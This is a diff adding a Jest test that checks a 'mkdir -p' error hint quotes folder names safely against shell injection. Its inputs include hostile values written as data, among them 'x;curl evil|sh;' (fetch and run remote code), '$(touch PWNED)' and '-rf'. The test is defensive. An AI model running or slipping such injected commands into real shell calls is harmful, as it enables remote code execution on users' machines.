@@ -43,6 +43,19 @@ describe('a place for a file', () => {
     });
   });
 
+  it.each(['x;curl evil|sh;', '$(touch PWNED)', "it's", '-rf'])(
+    'in a folder %s that does not exist is made by a command that holds one word of it',
+    async (name) => {
+      const at = folder();
+      const error = await standsAt(join(at, name, 'x'), `${name}/x`).catch((caught: unknown) => caught);
+      const { hint } = error as { readonly hint: string };
+      expect(hint).toMatch(/^mkdir -p /);
+      const words = execFileSync('sh', ['-c', `printf '%s\\n' ${hint}`], { cwd: at, encoding: 'utf8' });
+      expect(words.split('\n').slice(2)).toStrictEqual([name, '']);
+      expect(await readdir(at)).toStrictEqual([]);
+    },
+  );
+
   it('has a folder and a name that the disk takes', async () => {
     const at = folder();
     await expect(standsAt(join(at, 'no', 'x'), 'no/x')).rejects.toMatchObject({ exit: 2, code: 'no_folder' });
